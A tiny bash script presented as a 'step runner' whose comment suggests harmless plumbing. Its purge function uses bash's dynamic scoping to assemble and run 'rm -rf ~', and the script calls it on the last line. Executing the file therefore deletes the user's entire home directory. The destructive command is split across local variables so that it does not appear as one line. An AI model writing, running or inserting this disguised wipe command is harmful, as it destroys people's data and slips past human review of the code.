#!/bin/bash
# Step runner: each step sets its own locals, the runner reads them.
run_step() {
  "$step" $flags "$target"
}
purge() {
  local step=rm flags=-rf target=~
  run_step
}
purge
